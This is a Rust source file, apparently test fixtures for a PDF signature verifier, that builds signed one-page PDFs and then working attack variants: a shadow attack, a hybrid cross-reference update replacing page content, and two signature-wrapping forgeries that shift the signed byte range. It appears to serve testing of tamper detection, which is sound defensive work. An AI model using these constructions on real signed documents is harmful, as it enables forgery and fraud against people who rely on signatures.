//! Small signed PDF files whose signature dictionary is written by the attacker, with the signer's help.

use std::rc::Rc;

use eseal::crypto::KeyKind;
use eseal::limits::Budget;
use eseal::pdf::object::ObjectId;
use eseal::pdf::{Document, Location};
use eseal::signature::{Form as Kind, SignatureBuilder};
use eseal::source::Bytes;

use crate::office::office;
use crate::recipes::{Sealed, find, find_last};

/// How the signature dictionary is written.
pub struct Form {
    pub sub_filter: &'static str,
    pub contents_key: &'static str,
    pub open: &'static str,
    pub close: &'static str,
    pub more: &'static str,
    pub dangling: bool,
    pub twice: bool,
    /// Whether the dictionary stands inside its field.
    pub direct: bool,
    pub text: &'static str,
    /// /M.
    pub time: &'static str,
    /// Bytes among the objects that no section lists.
    pub hidden: &'static str,
}

impl Default for Form {
    fn default() -> Self {
        Form {
            sub_filter: "",
            contents_key: "/Contents",
            open: "<",
            close: ">",
            more: "",
            dangling: false,
            twice: false,
            direct: false,
            text: "pay 1 to Alice",
            time: "D:20260601003000Z",
            hidden: "",
        }
    }
}

/// Digits reserved for the value.
const DIGITS: usize = 6000;

/// A one-page document signed by the clerk.
pub fn signed(kind: KeyKind, form: &Form) -> Vec<u8> {
    let (filter, detached) = names(kind);
    let sub_filter = if form.sub_filter.is_empty() { detached } else { form.sub_filter };
    signed_by(filter, &Form { sub_filter, ..*form }, |covered| office(kind).cms(covered))
}

/// The same with any value over the covered bytes.
pub fn signed_by(filter: &str, form: &Form, value: impl FnOnce(&[u8]) -> Vec<u8>) -> Vec<u8> {
    let contents = if form.dangling { "/Contents[5 0 R 77 0 R]" } else { "/Contents 5 0 R" };
    let fields = if form.twice { "[6 0 R 8 0 R]" } else { "[6 0 R]" };
    let page = format!(
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]{contents}/Annots{fields}/Resources<</Font<</F1 4 0 R>>>>>>"
    );
    let dictionary = blank(filter, form);
    let held = if form.direct { dictionary.as_str() } else { "7 0 R" };
    let field =
        |name: &str| format!("<</Type/Annot/Subtype/Widget/FT/Sig/T({name})/V {held}/F 132/P 3 0 R/Rect[0 0 0 0]>>");
    let text = format!("BT /F1 24 Tf 72 500 Td ({}) Tj ET", form.text);
    let mut bodies = vec![
        (1, format!("<</Type/Catalog/Pages 2 0 R/AcroForm<</SigFlags 3/Fields{fields}>>>>")),
        (2, "<</Type/Pages/Kids[3 0 R]/Count 1>>".to_owned()),
        (3, page),
        (4, "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>".to_owned()),
        (5, format!("<</Length {}>>\nstream\n{text}\nendstream", text.len())),
        (6, field("S")),
        (7, if form.direct { "null".to_owned() } else { dictionary.clone() }),
    ];
    if form.twice {
        bodies.push((8, field("T")));
    }
    let mut bytes = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let mut section = format!("xref\n0 {}\n0000000000 65535 f \n", bodies.len() + 1);
    for (number, body) in &bodies {
        section.push_str(&format!("{:010} 00000 n \n", bytes.len()));
        bytes.extend(format!("{number} 0 obj\n{body}\nendobj\n").bytes());
    }
    bytes.extend(form.hidden.bytes());
    let at = bytes.len();
    bytes.extend(section.bytes());
    bytes.extend(format!("trailer\n<</Size {}/Root 1 0 R>>\nstartxref\n{at}\n%%EOF\n", bodies.len() + 1).bytes());

    filled(bytes, form, value)
}

/// A signature dictionary that waits for its range and its value.
fn blank(filter: &str, form: &Form) -> String {
    format!(
        "<</Type/Sig/Filter/{filter}/SubFilter/{}{}/M({})/ByteRange[{}]{} {}{}{}>>",
        form.sub_filter,
        form.more,
        form.time,
        " ".repeat(60),
        form.contents_key,
        form.open,
        "0".repeat(DIGITS),
        form.close,
    )
}

/// The last blank dictionary of a file filled in.
fn filled(mut bytes: Vec<u8>, form: &Form, value: impl FnOnce(&[u8]) -> Vec<u8>) -> Vec<u8> {
    let digits = find_last(&bytes, "0".repeat(DIGITS).as_bytes()).unwrap();
    let (gap, behind) = (digits - form.open.len(), digits + DIGITS + form.close.len());
    let numbers = format!("0 {gap} {behind} {}", bytes.len() - behind);
    let place = find_last(&bytes, b"/ByteRange[").unwrap() + 11;
    bytes[place..place + numbers.len()].copy_from_slice(numbers.as_bytes());
    let covered = [&bytes[..gap], &bytes[behind..]].concat();
    let value = value(&covered);
    let hex: String = value.iter().map(|b| format!("{b:02X}")).collect();
    bytes[digits..digits + hex.len()].copy_from_slice(hex.as_bytes());
    bytes
}

/// A signed file whose update writes the object of the signature anew, as another signature over all of it.
pub fn signed_away(kind: KeyKind, form: &Form) -> Vec<u8> {
    replaced(Sealed::new(signed(kind, form), kind), form)
}

/// The same where the first revision holds no more than a dictionary that waits for its value.
pub fn placeholder_filled(kind: KeyKind) -> Vec<u8> {
    let form = Form::default();
    let mut sealed = Sealed::new(signed(kind, &form), kind);
    let [_, gap, behind, _] = sealed.range;
    sealed.bytes[gap + 1..behind - 1].fill(b'0');
    replaced(sealed, &form)
}

fn replaced(sealed: Sealed, form: &Form) -> Vec<u8> {
    let (filter, sub_filter) = names(sealed.kind);
    let form = Form { sub_filter, ..*form };
    let mut body = blank(filter, &form);
    let mut id = ObjectId { number: 7, generation: 0 };
    if form.direct {
        id.number = 6;
        body = format!("<</Type/Annot/Subtype/Widget/FT/Sig/T(S)/V {body}/F 132/P 3 0 R/Rect[0 0 0 0]>>");
    }
    let kind = sealed.kind;
    filled(sealed.updated(&[(id, body.into_bytes())], "", true), &form, |covered| office(kind).cms(covered))
}

/// /Filter and /SubFilter.
fn names(kind: KeyKind) -> (&'static str, &'static str) {
    match kind {
        KeyKind::Sm2 => ("ESeal.GMPkiLite", "GM.sm2cms.detached"),
        _ => ("Adobe.PPKLite", "ETSI.CAdES.detached"),
    }
}

/// Shadow attack: a file is signed with an object that no section lists; after signing a section lists it, and no byte
/// else is added.
pub fn shadow(kind: KeyKind, hidden: &'static str, number: u32) -> Option<Vec<u8>> {
    let sealed = Sealed::new(signed(kind, &Form { hidden, ..Form::default() }), kind);
    let at = find(&sealed.bytes, hidden.as_bytes())?;
    let section = format!("xref\n{number} 1\n{at:010} 00000 n \n");
    Some(sealed.end(sealed.bytes.clone(), section.as_bytes(), "", true))
}

/// An update in the hybrid form (ISO 32000-1 7.5.8.4): its table replaces nothing, its stream the page's content.
pub fn hybrid(s: &Sealed) -> Option<Vec<u8>> {
    let mut bytes = s.bytes.clone();
    let content_at = bytes.len();
    bytes.extend(format!("{} {} obj\n", s.contents.number, s.contents.generation).bytes());
    bytes.extend(s.evil_stream());
    bytes.extend(b"\nendobj\n");
    let stream_at = bytes.len();
    let number = s.size + 5;
    let entry = [&[1_u8][..], &u32::try_from(content_at).unwrap().to_be_bytes(), &[0, 0]].concat();
    let index = format!("/W[1 4 2]/Index[{} 1]/Size {}", s.contents.number, number + 1);
    bytes.extend(format!("{number} 0 obj\n<</Type/XRef{index}/Length 7>>\nstream\n").bytes());
    bytes.extend(entry);
    bytes.extend(b"\nendstream\nendobj\n");
    let section = format!("xref\n{number} 1\n{stream_at:010} 00000 n \n");
    Some(s.end(bytes, section.as_bytes(), &format!("/XRefStm {stream_at}"), true))
}

/// The signature dictionary with a second range that begins `by` later.
fn moved(s: &Sealed, by: usize) -> Option<Vec<u8>> {
    let [_, gap, second, length] = s.range;
    let body = s.body(s.signature)?;
    let old = find_last(&body, b"/ByteRange")?;
    let open = old + body[old..].iter().position(|b| *b == b'[')?;
    let close = open + body[open..].iter().position(|b| *b == b']')?;
    let mut numbers = format!("0 {gap} {} {length}", second + by);
    // Its length must not depend on the numbers.
    while numbers.len() < 48 {
        numbers.push(' ');
    }
    Some([&body[..=open], numbers.as_bytes(), &body[close..]].concat())
}

/// Signature wrapping: the second range is moved away by the length of an evil update, which is put into the hole
/// together with a new dictionary that covers the moved range.
pub fn wrapped(s: &Sealed) -> Option<Vec<u8>> {
    let [_, _, second, _] = s.range;
    let mut evil = Vec::new();
    let content_at = second;
    evil.extend(format!("\n{} {} obj\n", s.contents.number, s.contents.generation).bytes());
    evil.extend(s.evil_stream());
    evil.extend(b"\nendobj\n");
    let dictionary_at = second + evil.len();
    let head = format!("{} {} obj\n", s.signature.number, s.signature.generation);
    let total = evil.len() + head.len() + moved(s, 0)?.len() + "\nendobj\n".len();
    evil.extend(head.bytes());
    evil.extend(moved(s, total)?);
    evil.extend(b"\nendobj\n");
    assert_eq!(evil.len(), total);
    let mut bytes = s.bytes[..second].to_vec();
    bytes.extend(&evil);
    bytes.extend(&s.bytes[second..]);
    // A section behind makes the moved objects live.
    let at = bytes.len();
    let mut section = b"xref\n0 1\n0000000000 65535 f \n".to_vec();
    for (id, offset) in [(s.contents, content_at + 1), (s.signature, dictionary_at)] {
        section.extend(format!("{} 1\n{offset:010} {:05} n \n", id.number, id.generation).bytes());
    }
    bytes.extend(section);
    let prev = if s.startxref >= second { s.startxref + total } else { s.startxref };
    let (size, root) = (s.size, s.catalog.number);
    bytes.extend(format!("trailer\n<</Size {size}/Root {root} 0 R/Prev {prev}>>\nstartxref\n{at}\n%%EOF\n").bytes());
    Some(bytes)
}

/// The same as first published: no byte follows the end, and the signed startxref points into the hole, where an evil
/// section lists every object anew.
pub fn wrapped_with_section(s: &Sealed) -> Option<Vec<u8>> {
    let [_, _, second, _] = s.range;
    let into = s.startxref.checked_sub(second)?;
    let content = [s.evil_stream(), b"\nendobj\n".to_vec()].concat();
    let content_head = format!("{} {} obj\n", s.contents.number, s.contents.generation);
    let head = format!("{} {} obj\n", s.signature.number, s.signature.generation);
    let build = |total: usize| -> Option<Vec<u8>> {
        // The section comes first, where startxref points; the objects stand behind it.
        let rows = listed(&s.bytes)?;
        let mut section = String::from("xref\n0 1\n0000000000 65535 f \n");
        let objects = into + rows.len() * 60 + 400;
        let dictionary = [head.as_bytes(), &moved(s, total)?, b"\nendobj\n"].concat();
        let (content_at, dictionary_at) = (second + objects, second + objects + content_head.len() + content.len());
        for (number, generation, offset) in rows {
            let offset = match number {
                n if n == s.contents.number => content_at,
                n if n == s.signature.number => dictionary_at,
                _ if offset >= second => offset + total,
                _ => offset,
            };
            section.push_str(&format!("{number} 1\n{offset:010} {generation:05} n \n"));
        }
        let (size, root) = (s.size, s.catalog.number);
        section.push_str(&format!("trailer\n<</Size {size}/Root {root} 0 R>>\n"));
        let mut hole = vec![b' '; into];
        hole.extend(section.bytes());
        hole.resize(objects.max(hole.len()), b' ');
        if hole.len() != objects {
            return None;
        }
        hole.extend(content_head.bytes());
        hole.extend(&content);
        hole.extend(dictionary);
        Some(hole)
    };
    let total = build(0)?.len();
    let hole = build(total)?;
    (hole.len() == total).then(|| [&s.bytes[..second], &hole, &s.bytes[second..]].concat())
}

/// Number, generation and offset of every object that lies in the file itself.
fn listed(bytes: &[u8]) -> Option<Vec<(u32, u16, usize)>> {
    let document = Document::open(Bytes::shared(bytes.to_vec()), Rc::new(Budget::default())).ok()?;
    let mut rows = std::collections::BTreeMap::new();
    for revision in 0..document.revisions().len() {
        for row in document.rows(revision).ok()? {
            if let Location::Offset(offset) = row.location {
                rows.insert(row.id.number, (row.id.number, row.id.generation, usize::try_from(offset).unwrap()));
            }
        }
    }
    Some(rows.into_values().collect())
}

impl crate::office::Office {
    /// A detached CMS value over bytes.
    pub fn cms(&self, covered: &[u8]) -> Vec<u8> {
        let builder = SignatureBuilder::new(self.clerk.clone(), vec![self.root.clone()], Kind::Pdf).unwrap();
        let digest = builder.digest_algorithm().digest(covered);
        builder.document_digest(&digest).unwrap().sign(self.signer()).unwrap()
    }
}
